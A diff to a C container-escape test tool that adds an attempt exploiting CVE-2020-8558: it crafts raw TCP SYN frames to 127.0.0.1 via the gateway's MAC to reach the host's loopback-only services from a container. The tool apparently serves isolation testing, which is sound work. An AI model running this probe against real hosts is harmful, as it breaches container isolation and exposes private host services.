@@ -8,16 +8,22 @@
    Usage: escape-payload all|NAME... [--host-file PATH] [--host-pid PID]
                                       [--block MAJ:MIN] [--monitor-comm NAME]
                                       [--inject TEXT] [--report PATH]
-                                      [--ro-root PATH]
+                                      [--ro-root PATH] [--localnet-port PORT]...
    --report writes the lines to PATH (made in the container) instead of
    stdout, for a process whose stdout nobody reads (`exec -d`).
    Exit status: the number of attempts that escaped.  */
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
 #include <linux/reboot.h>
+#include <net/ethernet.h>
 #include <net/if.h>
 #include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/tcp.h>
+#include <poll.h>
 #include <sched.h>
 #include <stdbool.h>
 #include <stdio.h>
@@ -43,8 +49,10 @@ struct args
   long host_pid;         /* a process outside the container */
   dev_t block;           /* the host's root block device */
   const char *monitor_comm;
-  const char *inject;  /* what tiocsti pushes into a terminal's input */
-  const char *ro_root; /* a read-only bind of a host tree with submounts */
+  const char *inject;               /* what tiocsti pushes into a terminal's input */
+  const char *ro_root;              /* a read-only bind of a host tree with submounts */
+  unsigned short localnet_ports[8]; /* loopback ports of the host to probe */
+  size_t n_localnet;
 };
 
 static struct args A = { .host_file = "/nonexistent-host-file",
@@ -903,6 +911,252 @@ try_ro_bind (void)
   return 0;
 }
 
+/* CVE-2020-8558: a host that routes 127.0.0.0/8 arriving on a bridge
+   (route_localnet) lets a container reach the host's loopback.  A TCP SYN
+   to 127.0.0.1 in a frame addressed to the gateway's MAC reaches services
+   bound to 127.0.0.1 only, and ports other projects publish on 127.0.0.1.
+   It needs only CAP_NET_RAW, which a default container has.  Any TCP
+   answer (SYN-ACK or RST) means the host's stack took the packet.  */
+#define LOCALNET_WAIT_MS 2000
+
+struct link_info
+{
+  char ifname[IFNAMSIZ];
+  int ifindex;
+  struct in_addr self, gateway;
+  unsigned char mac[ETH_ALEN], gw_mac[ETH_ALEN];
+};
+
+/* The interface and gateway of the default route.  */
+static bool
+default_route (struct link_info *l)
+{
+  FILE *f = fopen ("/proc/net/route", "re");
+  char line[256];
+  bool found = false;
+
+  if (f == NULL)
+    return false;
+  while (! found && fgets (line, sizeof (line), f))
+    {
+      char ifname[IFNAMSIZ];
+      unsigned dest, gw;
+
+      /* The kernel prints the addresses' bytes as one hex word in host
+         order: scanning them back gives the bytes as they were.  */
+      if (sscanf (line, "%15s %x %x", ifname, &dest, &gw) == 3 && dest == 0 && gw != 0)
+        {
+          snprintf (l->ifname, sizeof (l->ifname), "%s", ifname);
+          l->gateway.s_addr = gw;
+          found = true;
+        }
+    }
+  fclose (f);
+  return found;
+}
+
+static bool
+link_addresses (struct link_info *l)
+{
+  struct ifreq ifr = { 0 };
+  int s = socket (AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+  bool ok;
+
+  if (s < 0)
+    return false;
+  snprintf (ifr.ifr_name, IFNAMSIZ, "%s", l->ifname);
+  ok = ioctl (s, SIOCGIFADDR, &ifr) == 0;
+  if (ok)
+    memcpy (&l->self, &((struct sockaddr_in *)(void *)&ifr.ifr_addr)->sin_addr, sizeof (l->self));
+  ok = ok && ioctl (s, SIOCGIFHWADDR, &ifr) == 0;
+  if (ok)
+    memcpy (l->mac, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
+  close (s);
+  l->ifindex = (int)if_nametoindex (l->ifname);
+  return ok && l->ifindex > 0;
+}
+
+static bool
+arp_lookup (struct in_addr ip, unsigned char mac[ETH_ALEN])
+{
+  FILE *f = fopen ("/proc/net/arp", "re");
+  char line[256], want[INET_ADDRSTRLEN];
+  bool found = false;
+
+  if (f == NULL)
+    return false;
+  inet_ntop (AF_INET, &ip, want, sizeof (want));
+  while (! found && fgets (line, sizeof (line), f))
+    {
+      char addr[64], hw[64];
+      unsigned flags, m[ETH_ALEN];
+
+      /* ATF_COM (2): the entry is complete.  */
+      if (sscanf (line, "%63s %*s %x %63s", addr, &flags, hw) != 3 || strcmp (addr, want) != 0 || ! (flags & 2)
+          || sscanf (hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != ETH_ALEN)
+        continue;
+      for (int i = 0; i < ETH_ALEN; i++)
+        mac[i] = (unsigned char)m[i];
+      found = true;
+    }
+  fclose (f);
+  return found;
+}
+
+/* A datagram to the gateway has the kernel resolve its MAC.  */
+static bool
+gateway_mac (struct link_info *l)
+{
+  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons (9), .sin_addr = l->gateway };
+  int s = socket (AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+
+  if (s >= 0)
+    {
+      (void)! sendto (s, "", 0, 0, (struct sockaddr *)&to, sizeof (to));
+      close (s);
+    }
+  for (int i = 0; i < 200; i++)
+    {
+      if (arp_lookup (l->gateway, l->gw_mac))
+        return true;
+      usleep (10000);
+    }
+  return false;
+}
+
+static uint16_t
+inet_checksum (const unsigned char *p, size_t len)
+{
+  uint32_t sum = 0;
+
+  for (; len > 1; p += 2, len -= 2)
+    sum += (uint32_t)(p[0] << 8 | p[1]);
+  if (len)
+    sum += (uint32_t)p[0] << 8;
+  while (sum >> 16)
+    sum = (sum & 0xffff) + (sum >> 16);
+  return htons ((uint16_t)~sum);
+}
+
+#define SYN_FRAME_LEN (sizeof (struct ether_header) + sizeof (struct iphdr) + sizeof (struct tcphdr))
+
+/* Ethernet to the gateway, IPv4 from our address to 127.0.0.1, TCP SYN.  */
+static void
+build_syn (const struct link_info *l, uint16_t sport, uint16_t dport, unsigned char frame[SYN_FRAME_LEN])
+{
+  struct ether_header eth = { .ether_type = htons (ETHERTYPE_IP) };
+  struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP };
+  struct tcphdr tcp = { .source = htons (sport), .dest = htons (dport), .doff = 5, .syn = 1 };
+  unsigned char pseudo[12 + sizeof (tcp)];
+
+  memcpy (eth.ether_dhost, l->gw_mac, ETH_ALEN);
+  memcpy (eth.ether_shost, l->mac, ETH_ALEN);
+  ip.tot_len = htons (sizeof (ip) + sizeof (tcp));
+  ip.id = htons (sport);
+  ip.saddr = l->self.s_addr;
+  ip.daddr = htonl (INADDR_LOOPBACK);
+  ip.check = inet_checksum ((const unsigned char *)&ip, sizeof (ip));
+  tcp.seq = htonl (0x63630000u | sport);
+  tcp.window = htons (64240);
+  /* The checksum covers a pseudo header: addresses, zero, protocol, length.  */
+  memcpy (pseudo, &ip.saddr, 4);
+  memcpy (pseudo + 4, &ip.daddr, 4);
+  pseudo[8] = 0;
+  pseudo[9] = IPPROTO_TCP;
+  pseudo[10] = 0;
+  pseudo[11] = sizeof (tcp);
+  memcpy (pseudo + 12, &tcp, sizeof (tcp));
+  tcp.check = inet_checksum (pseudo, sizeof (pseudo));
+  memcpy (frame, &eth, sizeof (eth));
+  memcpy (frame + sizeof (eth), &ip, sizeof (ip));
+  memcpy (frame + sizeof (eth) + sizeof (ip), &tcp, sizeof (tcp));
+}
+
+static long
+ms_since (const struct timespec *t0)
+{
+  struct timespec now;
+
+  clock_gettime (CLOCK_MONOTONIC, &now);
+  return (now.tv_sec - t0->tv_sec) * 1000 + (now.tv_nsec - t0->tv_nsec) / 1000000;
+}
+
+/* What came back from DPORT to SPORT within LOCALNET_WAIT_MS, or NULL.  */
+static const char *
+await_answer (int s, const struct link_info *l, uint16_t sport, uint16_t dport)
+{
+  struct timespec t0;
+  struct pollfd p = { .fd = s, .events = POLLIN };
+  long left;
+
+  clock_gettime (CLOCK_MONOTONIC, &t0);
+  while ((left = LOCALNET_WAIT_MS - ms_since (&t0)) > 0 && poll (&p, 1, (int)left) > 0)
+    {
+      unsigned char buf[2048];
+      struct sockaddr_ll from;
+      socklen_t fl = sizeof (from);
+      ssize_t n = recvfrom (s, buf, sizeof (buf), 0, (struct sockaddr *)&from, &fl);
+      struct iphdr ip;
+      struct tcphdr tcp;
+
+      if (n < (ssize_t)SYN_FRAME_LEN || from.sll_pkttype == PACKET_OUTGOING)
+        continue;
+      memcpy (&ip, buf + sizeof (struct ether_header), sizeof (ip));
+      if (ip.protocol != IPPROTO_TCP || ip.daddr != l->self.s_addr
+          || sizeof (struct ether_header) + ip.ihl * 4u + sizeof (tcp) > (size_t)n)
+        continue;
+      memcpy (&tcp, buf + sizeof (struct ether_header) + ip.ihl * 4u, sizeof (tcp));
+      if (ntohs (tcp.source) == dport && ntohs (tcp.dest) == sport)
+        return tcp.rst ? "RST" : tcp.syn && tcp.ack ? "SYN-ACK" : "a TCP segment";
+    }
+  return NULL;
+}
+
+static int
+try_localnet (void)
+{
+  struct link_info l = { 0 };
+  struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons (ETH_P_IP), .sll_halen = ETH_ALEN };
+  int s, escaped = 0;
+
+  if (A.n_localnet == 0 || ! default_route (&l) || ! link_addresses (&l) || ! gateway_mac (&l))
+    {
+      snprintf (detail, sizeof (detail), "cannot probe: no port given, or no default route or gateway");
+      return 0;
+    }
+  s = socket (AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons (ETH_P_IP));
+  if (s < 0)
+    return blocked_if (-1);
+  to.sll_ifindex = l.ifindex;
+  memcpy (to.sll_addr, l.gw_mac, ETH_ALEN);
+  if (bind (s, (struct sockaddr *)&to, sizeof (to)) < 0)
+    {
+      close (s);
+      return blocked_if (-1);
+    }
+  detail[0] = '\0';
+  for (size_t i = 0; i < A.n_localnet; i++)
+    {
+      uint16_t sport = (uint16_t)(40000 + (getpid () * 16 + (int)i) % 20000), dport = A.localnet_ports[i];
+      unsigned char frame[SYN_FRAME_LEN];
+      const char *answer;
+
+      build_syn (&l, sport, dport, frame);
+      if (sendto (s, frame, sizeof (frame), 0, (struct sockaddr *)&to, sizeof (to)) < 0)
+        {
+          snprintf (detail + strlen (detail), sizeof (detail) - strlen (detail), "send to 127.0.0.1:%u: %s; ", dport,
+                    strerror (errno));
+          continue;
+        }
+      answer = await_answer (s, &l, sport, dport);
+      escaped |= answer != NULL;
+      snprintf (detail + strlen (detail), sizeof (detail) - strlen (detail), "127.0.0.1:%u %s%s; ", dport,
+                answer ? "answered with " : "no answer", answer ? answer : "");
+    }
+  close (s);
+  return escaped;
+}
+
 static const struct attempt
 {
   const char *name;
@@ -949,13 +1203,20 @@ static const struct attempt
   { "obsolete-calls", try_obsolete_calls },
   { "i386-legacy", try_i386_legacy },
   { "swapon", try_swapon },
-  /* Not part of `all`: these need the test to run exec meanwhile, or a
-     read-only bind at ro_root.  */
+  /* Not part of `all` (is_in_all): these need the test to run exec
+     meanwhile, a read-only bind at ro_root, or listeners on the host's
+     loopback; tiocsti, when it works, types into a terminal.  */
   { "exe-race", try_exe_race },
   { "ro-bind", try_ro_bind },
-  /* Not part of `all`: when it works it types into a terminal.  */
   { "tiocsti", try_tiocsti },
+  { "localnet", try_localnet },
 };
+
+static bool
+is_in_all (const struct attempt *a)
+{
+  return a->fn != try_exe_race && a->fn != try_ro_bind && a->fn != try_tiocsti && a->fn != try_localnet;
+}
 
 static int
 run (const struct attempt *a)
@@ -992,6 +1253,9 @@ parse_option (int *i, int argc, char **argv)
     }
   else if (strcmp (argv[*i], "--ro-root") == 0)
     A.ro_root = argv[++*i];
+  else if (strcmp (argv[*i], "--localnet-port") == 0
+           && A.n_localnet < sizeof (A.localnet_ports) / sizeof (A.localnet_ports[0]))
+    A.localnet_ports[A.n_localnet++] = (unsigned short)atoi (argv[++*i]);
   else if (strcmp (argv[*i], "--block") == 0 && sscanf (argv[*i + 1], "%u:%u", &maj, &min) == 2)
     {
       A.block = makedev (maj, min);
@@ -1033,9 +1297,7 @@ main (int argc, char **argv)
     }
   for (size_t t = 0; t < sizeof (attempts) / sizeof (attempts[0]); t++)
     for (size_t k = 0; k < n; k++)
-      if ((strcmp (names[k], "all") == 0 && attempts[t].fn != try_exe_race && attempts[t].fn != try_tiocsti
-           && attempts[t].fn != try_ro_bind)
-          || strcmp (names[k], attempts[t].name) == 0)
+      if ((strcmp (names[k], "all") == 0 && is_in_all (&attempts[t])) || strcmp (names[k], attempts[t].name) == 0)
         {
           escaped += run (&attempts[t]);
           break;
